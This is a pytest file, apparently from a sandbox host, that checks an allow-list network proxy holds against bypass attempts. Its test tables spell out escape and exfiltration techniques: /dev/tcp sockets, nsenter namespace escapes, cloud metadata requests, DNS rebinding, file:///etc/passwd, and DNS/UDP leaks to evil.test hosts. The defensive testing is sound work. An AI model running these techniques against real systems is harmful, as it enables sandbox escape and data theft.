"""Commands of a case with domains that want to get past them, by every way a machine has."""

import ipaddress
import itertools
import os
import socket
from collections.abc import AsyncGenerator, Generator
from contextlib import ExitStack
from pathlib import Path

import pytest
import pytest_asyncio
from needed import needs_sandbox
from session_stage import NO_DEVICE, Stage, new_stage, serving_site

from muster_protocol.session_responses import ExecDone
from muster_sessionhost import reachable_addresses
from muster_sessionhost.reachable_addresses import HostClosed, Reach

pytestmark = [needs_sandbox(), pytest.mark.asyncio(loop_scope="module")]
NUMBERS = itertools.count(1)
SECRET = "Second page"
KNOWN = {
    "shop.test": "127.0.0.1",
    "metadata.shop.test": "169.254.169.254",
    "nats.shop.test": "127.0.0.9",
    "mapped.shop.test": "::ffff:169.254.169.254",
    "anywhere.shop.test": "0.0.0.0",
}
"""Names that a test's own name server knows; `turning.shop.test` leads elsewhere each time that it is asked for."""


class Outside:
    """What there is outside a session, and which names were looked up there."""

    def __init__(self, site: str, folder: Path) -> None:
        self.site, self.port = site, site.rpartition(":")[2]
        self.asked: list[str] = []
        self.turning = itertools.cycle(("127.0.0.1", "169.254.169.254"))
        self.abstract = f"\0muster-{os.getpid()}"
        self.path = folder / "outside.sock"
        self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagrams.bind(("127.0.0.1", 0))
        self.datagrams.setblocking(False)

    @property
    def udp(self) -> int:
        """Where datagrams would arrive."""
        return self.datagrams.getsockname()[1]

    async def resolve(self, host: str, port: int) -> list[reachable_addresses.IpAddress]:
        """Stand in for the name servers of the world."""
        self.asked.append(host)
        known = next(self.turning) if host == "turning.shop.test" else KNOWN.get(host, host)
        try:
            address = ipaddress.ip_address(known)
        except ValueError:
            raise socket.gaierror(socket.EAI_NONAME, "no such name") from None
        return [getattr(address, "ipv4_mapped", None) or address]


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Generator[Outside]:
    with ExitStack() as stack:
        made = Outside(stack.enter_context(serving_site()), tmp_path_factory.mktemp("outside"))
        stack.enter_context(made.datagrams)
        for address in (made.abstract, str(made.path)):
            listening = stack.enter_context(socket.socket(socket.AF_UNIX))
            listening.bind(address)
            listening.listen()
        patch = stack.enter_context(pytest.MonkeyPatch.context())
        patch.setattr(reachable_addresses, "_resolved", made.resolve)
        yield made


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def stage(outside: Outside, tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Stage]:
    """A session whose case has the site's host, by name, and names below it."""
    async with new_stage(tmp_path_factory.mktemp("stage")) as stage:
        await stage.start_host(sandbox="bwrap")
        await stage.open(device=NO_DEVICE, domains=("shop.test", f"127.0.0.1:{outside.port}"))
        yield stage
        await stage.close()


async def run(stage: Stage, command: str, *, background: bool = False) -> ExecDone:
    """Run a command in the test's session."""
    async with stage.attach(dispatch=next(NUMBERS)) as session:
        call = f"c{next(NUMBERS)}"
        return await session.execute(command, call=call, timeout_seconds=20, secrets={}, background=background)


def python(lines: str) -> str:
    """Return a command that runs a program, with a function that asks a server over a connected socket."""
    asking = """
import os, socket, sys, urllib.request
def ask(it, first=b''):
    it.settimeout(3); it.sendall(first + b'GET /second HTTP/1.0\\r\\n\\r\\n'); print(it.recv(65536), it.recv(65536))
def proxied(*lines):
    it = socket.create_connection(('127.0.0.1', 3128)); it.settimeout(3)
    it.sendall('\\r\\n'.join((*lines, '', '')).encode('latin-1')); print(it.recv(65536)); return it
"""
    return f"python3 - <<'PROGRAM'\n{asking}{lines}\nPROGRAM"


async def test_what_the_domains_allow_is_reached_and_so_is_what_the_session_itself_runs(
    stage: Stage, outside: Outside
) -> None:
    for command in (
        f"curl -sS http://shop.test:{outside.port}/second",
        f"curl -sS {outside.site}/second",
        f"curl -sS -p {outside.site}/second",
        f"curl -sS -d 'Second page' {outside.site}/echo",
        f"curl -sS {outside.site}/second http://shop.test:{outside.port}/second",
        python(f"print(urllib.request.urlopen('{outside.site}/second').read())"),
    ):
        done = await run(stage, command)
        assert SECRET in done.stdout and done.unreached == (), (command, done)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    await run(stage, f"echo ours > ours; exec python3 -m http.server --bind 127.0.0.1 {port}", background=True)
    waiting = f"until curl -sf http://localhost:{port}/ours; do sleep 0.05; done"
    assert (await run(stage, waiting)).stdout == "ours\n"
    for how in ("", "--noproxy '*'"):
        command = f"curl -sS {how} http://127.0.0.1:{port}/ours"
        assert (await run(stage, command)).stdout == "ours\n"
    with socket.socket() as host:
        assert host.connect_ex(("127.0.0.1", port)), "what a session runs is its own"


PAST = {
    "curl without proxy": "curl -sS --noproxy '*' -m 3 {site}/second",
    "without the variables": "env -i curl -sS -m 3 {site}/second",
    "to another address of the host": "curl -sS --noproxy '*' -m 3 http://$(hostname -i | cut -d' ' -f1):{port}/second",
    "a name": "curl -sS --noproxy '*' -m 3 http://evil.test:{port}/second",
    "an address": "curl -sS --noproxy '*' -m 3 http://192.0.2.7:{port}/second",
    "the shell's own sockets": "exec 5<>/dev/tcp/127.0.0.1/{port}; echo GET / >&5; cat <&5",
    "a raw socket": python("ask(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))"),
    "IPv6": python("ask(socket.create_connection(('2001:db8::1', 80), 3))"),
    "IPv6 of the link": python("ask(socket.create_connection(('fe80::1', 80), 3))"),
    "IPv4 in IPv6": python("ask(socket.create_connection(('::ffff:127.0.0.1', {port}), 3))"),
    "the host's own abstract socket": python("it = socket.socket(socket.AF_UNIX); it.connect({abstract!r}); ask(it)"),
    "a socket in the host's files": python("it = socket.socket(socket.AF_UNIX); it.connect('{path}'); ask(it)"),
    "a socket of the host's name service": "ls /run/systemd/resolve/io.systemd.Resolve /run/dbus /var/run/nscd",
    "another namespace": "nsenter --net=/proc/1/ns/net curl -m 3 {site}/second; unshare -Urn curl -m 3 {site}/second",
    "the namespace of the host": "nsenter -t $PPID -n curl -m 3 {site}/second",
    "another interface": "ip link add out type veth; ip route add default dev lo; curl --noproxy '*' -m 3 {site}/second",
    "another mount": "mount -t proc proc /proc; mount --bind / /mnt; curl --noproxy '*' -m 3 {site}/second",
    "a descriptor that was left": "ls -l /proc/self/fd | grep socket",
}


@pytest.mark.parametrize("way", PAST)
async def test_nothing_gets_past_the_proxy(stage: Stage, outside: Outside, way: str) -> None:
    words = {"site": outside.site, "port": outside.port, "abstract": outside.abstract, "path": outside.path}
    command = PAST[way]
    for name, value in words.items():
        command = command.replace(f"{{{name}}}", str(value)).replace(f"{{{name}!r}}", repr(value))
    done = await run(stage, command)
    assert SECRET not in done.stdout and done.exit_code, done


async def test_who_ignores_the_proxy_is_told(stage: Stage, outside: Outside) -> None:
    for way in ("a name", "an address", "IPv6", "curl without proxy"):
        done = await run(stage, PAST[way].replace("{site}", outside.site).replace("{port}", outside.port))
        assert "HTTP_PROXY" in done.unreached[-1].why and done.unreached[-1].closed, (way, done)


async def test_no_word_leaves_by_names_or_datagrams(stage: Stage, outside: Outside) -> None:
    outside.asked.clear()
    for command in (
        "getent hosts pin-1234.evil.test",
        python(f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pin', ('127.0.0.1', {outside.udp}))"),
        python("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pin', ('192.0.2.7', 53))"),
        "curl -sS https://pin-1234.evil.test/",
        "curl -sS http://pin-1234.evil.test/",
        "curl -sS -x socks5h://127.0.0.1:3128 http://pin-1234.evil.test/",
        python("proxied('CONNECT pin-1234.evil.test:53 HTTP/1.1')"),
    ):
        await run(stage, command)
    with pytest.raises(BlockingIOError):
        outside.datagrams.recv(100)
    assert outside.asked == []


ASKED = {
    "another host": "GET http://evil.test/ HTTP/1.1",
    "another host by tunnel": "CONNECT evil.test:443 HTTP/1.1",
    "a name that ends alike": "CONNECT evilshop.test:{port} HTTP/1.1",
    "a name that goes on": "CONNECT shop.test.evil.test:{port} HTTP/1.1",
    "another port of an address": "CONNECT 127.0.0.1:22 HTTP/1.1",
    "another address of the machine": "CONNECT 127.0.0.2:{port} HTTP/1.1",
    "an address as a number": "CONNECT 2130706433:{port} HTTP/1.1",
    "metadata": "GET http://169.254.169.254/ HTTP/1.1",
    "metadata below the domain": "GET http://metadata.shop.test/ HTTP/1.1",
    "metadata in IPv6": "CONNECT mapped.shop.test:80 HTTP/1.1",
    "the fleet's NATS": "CONNECT 127.0.0.1:{nats} HTTP/1.1",
    "the fleet's NATS by the domain": "CONNECT shop.test:{nats} HTTP/1.1",
    "the fleet's NATS by another address": "CONNECT nats.shop.test:{nats} HTTP/1.1",
    "the fleet's NATS at no address": "CONNECT anywhere.shop.test:{nats} HTTP/1.1",
    "its monitor": "GET http://shop.test:8222/varz HTTP/1.1",
    "the proxy itself": "CONNECT 127.0.0.1:3128 HTTP/1.1",
    "the proxy itself by name": "GET http://localhost:3128/ HTTP/1.1",
    "the proxy's own pages": "GET / HTTP/1.1",
    "a way to administer it": "OPTIONS * HTTP/1.1",
    "files": "GET file:///etc/passwd HTTP/1.1",
    "FTP": "GET ftp://shop.test/ HTTP/1.1",
    "two hosts in one": "GET http://shop.test\\@evil.test/ HTTP/1.1",
    "half a request": "GET http://shop.test",
    "SOCKS": "\x05\x01\x00",
}


@pytest.mark.parametrize("asked", ASKED)
async def test_the_proxy_lets_nothing_else_pass(stage: Stage, outside: Outside, asked: str) -> None:
    nats = stage.server.url.rpartition(":")[2]
    line = ASKED[asked].replace("{port}", outside.port).replace("{nats}", nats)
    done = await run(stage, python(f"ask(proxied({line!r}, 'Host: shop.test:{outside.port}'))"))
    assert done.exit_code == 1 or "b'' b''" in done.stdout, done
    assert not any(word in done.stdout for word in (SECRET, "INFO", "200")), done


async def test_a_name_that_leads_elsewhere_the_next_time_does_not_get_there(stage: Stage, outside: Outside) -> None:
    asked = f"GET http://turning.shop.test:{outside.port}/second HTTP/1.1"
    for _ in range(4):
        done = await run(stage, python(f"proxied({asked!r})"))
        assert "200 OK" in done.stdout or any("169.254.169.254" in each.why for each in done.unreached), done


async def test_a_connection_stays_with_the_host_that_it_was_for(stage: Stage, outside: Outside) -> None:
    first = f"GET http://shop.test:{outside.port}/second HTTP/1.1"
    then = "b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'"
    outside.asked.clear()
    await run(stage, python(f"it = proxied({first!r}); it.sendall({then}); print(it.recv(1))"))
    assert "evil.test" not in outside.asked


async def test_a_new_shell_is_kept_too_and_a_crowd_does_no_harm(stage: Stage, outside: Outside) -> None:
    crowd = "held = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(400)]"
    await run(stage, python(crowd))
    assert SECRET in (await run(stage, f"curl -sS {outside.site}/second")).stdout
    with pytest.raises(Exception, match="shell ended"):
        await run(stage, "kill -9 2; sleep 5")
    assert (await run(stage, f"curl -sS --noproxy '*' -m 3 {outside.site}/second")).exit_code == 7
    assert SECRET in (await run(stage, f"curl -sS {outside.site}/second")).stdout


async def test_where_a_server_of_the_fleet_cannot_be_found_its_port_is_closed_everywhere(outside: Outside) -> None:
    reach = Reach(("shop.test",), ("nats.gone:4222",))
    with pytest.raises(HostClosed, match="belongs to the fleet"):
        await reach.find("shop.test", 4222)
    assert [found.ip for found in await reach.find("shop.test", 4223)] == ["127.0.0.1"]


async def test_without_domains_commands_have_the_network_of_their_host(stage: Stage, outside: Outside) -> None:
    run_before, stage.run = stage.run, f"{stage.run}-free"
    try:
        await stage.open(device=NO_DEVICE)
        done = await run(stage, f"env | grep -ci proxy; curl -sS --noproxy '*' {outside.site}/second")
        assert done.stdout == f"0\n<title>Second</title><p>{SECRET}</p>"
        await stage.close()
    finally:
        stage.run = run_before
